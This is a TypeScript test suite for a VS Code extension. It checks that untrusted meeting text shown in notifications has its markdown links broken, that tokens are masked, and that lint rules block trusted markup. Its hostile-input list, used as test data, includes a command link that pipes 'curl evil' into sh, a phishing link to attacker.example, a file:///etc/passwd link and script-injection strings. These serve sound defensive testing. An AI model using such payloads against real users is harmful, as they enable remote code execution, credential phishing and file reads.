// Hostile text in notifications and the tree: link syntax is broken before a notification shows untrusted text,
// and nothing the host shows is trusted markdown or HTML.
import assert from 'node:assert/strict';
import path from 'node:path';
import fc from 'fast-check';
import type { Linter } from 'eslint';
import { ESLint } from 'eslint';
import { inertNotificationText } from '../../src/host/inertText';
import type { MessageShowers } from '../../src/host/notify';
import { createNotifier } from '../../src/host/notify';
import { forgetSecrets, rememberSecret } from '../../src/host/redact';

/**
 * The markdown-style link VS Code's notifications turn into an anchor (its targets include `command:` URIs, run on
 * click). Deliberately broader than VS Code's own pattern: any `[label](target)`.
 */
const notificationLink = /\[[^\]]+\]\([^)\s]+[^)]*\)/;

let eslint: ESLint | undefined;

/** What ESLint (the project's config) reports for `code` as if it were the file at `file` (from the repo root). */
async function lintAs(code: string, file: string): Promise<Linter.LintMessage[]> {
  eslint ??= new ESLint({ cwd: path.resolve(__dirname, '../..') });
  const [result] = await eslint.lintText(code, { filePath: path.resolve(__dirname, '../..', file) });
  return result!.messages;
}

const hostile = [
  '[Reload](command:workbench.action.reloadWindow)',
  'Click [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[Sign in again](https://attacker.example/phish "Microsoft")',
  '[a](file:///etc/passwd) and [b](http://x.example)',
  '[nested [x]](command:x)',
  '[multi\nline](command:x)',
  '<img src=x onerror=alert(1)> [x](command:y)',
  '**bold** `code` $(alert) <script>alert(1)</script>',
];

describe('inertNotificationText (src/host/inertText.ts)', () => {
  it('leaves no markdown link in hostile subjects and Graph error messages', () => {
    for (const text of hostile) {
      const out = inertNotificationText(text);
      // VS Code folds line breaks into spaces before it looks for links.
      assert.doesNotMatch(out.replace(/\r\n|\n|\r/g, ' '), notificationLink, text);
      assert.ok(!out.includes(']('), text);
    }
  });

  it('breaks links inside a composed, translated message', () => {
    const organizer = '[Open settings](command:workbench.action.openSettings)';
    const message = `Only the organizer (${organizer}) can change or cancel this meeting. Nothing was sent.`;
    assert.equal(
      inertNotificationText(message),
      'Only the organizer ([Open settings] (command:workbench.action.openSettings)) can change or cancel this meeting. Nothing was sent.',
    );
  });

  it('keeps every other character, so ordinary text reads the same (fast-check)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const out = inertNotificationText(s);
        assert.ok(!out.includes(']('));
        assert.equal(out.replace(/\] \(/g, ']('), s.replace(/\] \(/g, ']('));
        if (!s.includes('](')) assert.equal(out, s);
      }),
      { numRuns: 1000 },
    );
    fc.assert(
      fc.property(fc.string(), fc.webUrl(), fc.string(), (label, url, rest) => {
        fc.pre(!label.includes(']') && label.length > 0);
        for (const target of [url, `command:${rest.replace(/[\s)]/g, '')}x`]) {
          const out = inertNotificationText(`x [${label}](${target}) y`);
          assert.doesNotMatch(out.replace(/\r\n|\n|\r/g, ' '), notificationLink);
        }
      }),
      { numRuns: 200 },
    );
  });
});

describe('host: untrusted text is never shown as markup (lint rule over src/host)', function () {
  this.timeout(120_000);

  it('uses no trusted or HTML-enabled MarkdownString (tree tooltips are plain strings)', async () => {
    // The rule (eslint.config.mjs, `markupRules`) bans MarkdownString and its trust switches in the host, so a
    // tooltip can only be a string; this lints a snippet to show it fires, and where.
    const code = [
      "import * as vscode from 'vscode';",
      "const md = new vscode.MarkdownString('**x**');",
      'md.isTrusted = true;',
      "const item = new vscode.TreeItem('x');",
      "item.tooltip = new vscode.MarkdownString('y', true);",
      'export const options = { supportHtml: true, supportThemeIcons: true, isTrusted: { enabledCommands: [] } };',
      'export { md, item };',
      '',
    ].join('\n');
    const lines = async (file: string) => [
      ...new Set(
        (await lintAs(code, file)).filter((m) => /markup|plain string/.test(m.message)).map((m) => m.line),
      ),
    ];
    assert.deepEqual(await lines('src/host/tree.ts'), [2, 3, 5, 6]);
    assert.deepEqual(await lines('src/extension.ts'), [2, 3, 5, 6]);
  });
});

/** A stand-in for VS Code's show*Message that records what reaches it. */
function recorder(): {
  showers: MessageShowers;
  shown: { kind: string; message: string; detail?: string; items: string[] }[];
} {
  const shown: { kind: string; message: string; detail?: string; items: string[] }[] = [];
  const record =
    (kind: string) =>
    (message: string, options: { detail?: string }, ...items: string[]) => {
      shown.push({ kind, message, detail: options.detail, items });
      return Promise.resolve(items[0]);
    };
  return { showers: { info: record('info'), warning: record('warning'), error: record('error') }, shown };
}

describe('notifications (src/host/notify.ts): what reaches show*Message at runtime', () => {
  afterEach(() => forgetSecrets());
  const token = 'EwBopaque-token-0123456789!';

  it('breaks link syntax and masks tokens in every message and detail, however the text was built', async () => {
    rememberSecret(token);
    const { showers, shown } = recorder();
    const notify = createNotifier(showers);
    for (const subject of hostile) {
      // The call shapes the host uses: a template, a variable built by concatenation, a modal with detail.
      const built = 'Meeting ' + subject + ' was cancelled by ' + token;
      await notify.info(`"${subject}" was scheduled.`);
      await notify.warn(built, 'Schedule Again');
      await notify.error(`Outlook refused the request: ${subject} ${encodeURIComponent(token)}`, 'Show Log');
      await notify.warn(
        `Cancel "${subject}"?`,
        { modal: true, detail: `Attendees: ${subject}` },
        'Cancel Meeting',
      );
    }
    assert.equal(shown.length, hostile.length * 4);
    for (const { message, detail } of shown) {
      for (const text of [message, detail ?? '']) {
        assert.doesNotMatch(text.replace(/\r\n|\n|\r/g, ' '), notificationLink, text);
        assert.ok(!text.includes(token) && !text.includes(encodeURIComponent(token)), text);
      }
    }
    assert.deepEqual(
      shown.slice(0, 4).map((s) => [s.kind, s.items]),
      [
        ['info', []],
        ['warning', ['Schedule Again']],
        ['error', ['Show Log']],
        ['warning', ['Cancel Meeting']],
      ],
    );
  });

  it('passes the picked button back and keeps modal options', async () => {
    const { showers } = recorder();
    const seen: unknown[] = [];
    const notify = createNotifier({
      ...showers,
      warning: (_message, options, ...items) => {
        seen.push(options);
        return Promise.resolve(items[1]);
      },
    });
    assert.equal(await notify.warn('x', { modal: true }, 'A', 'B'), 'B');
    assert.deepEqual(seen, [{ modal: true }]);
  });

  it('holds for any text (fast-check)', async () => {
    const { showers, shown } = recorder();
    const notify = createNotifier(showers);
    await fc.assert(
      fc.asyncProperty(fc.string(), fc.string(), async (a, b) => {
        await notify.info(`${a}[${b}](command:workbench.action.reloadWindow)${a}`);
        const last = shown[shown.length - 1]!.message;
        assert.doesNotMatch(last.replace(/\r\n|\n|\r/g, ' '), notificationLink);
      }),
      { numRuns: 300 },
    );
  });
});

describe('lint: no show*Message outside the notification helper', function () {
  this.timeout(120_000);

  it('flags a direct vscode.window.show*Message call in a host file, and allows it in src/host/notifications.ts', async () => {
    const code = [
      "import * as vscode from 'vscode';",
      'const subject = String(Date.now());',
      'const message = `Meeting ${subject}`;',
      'void vscode.window.showInformationMessage(message);',
      "void vscode.window.showWarningMessage('x', { modal: true });",
      'const { showErrorMessage } = vscode.window;',
      "void showErrorMessage('y');",
      '',
    ].join('\n');
    const host = await lintAs(code, 'src/host/commands/run.ts');
    const banned = host.filter((m) => /notify/.test(m.message));
    assert.equal(banned.length, 3, JSON.stringify(host, null, 1));
    const helper = await lintAs(code, 'src/host/notifications.ts');
    assert.deepEqual(
      helper.filter((m) => /notify/.test(m.message)),
      [],
    );
  });
});
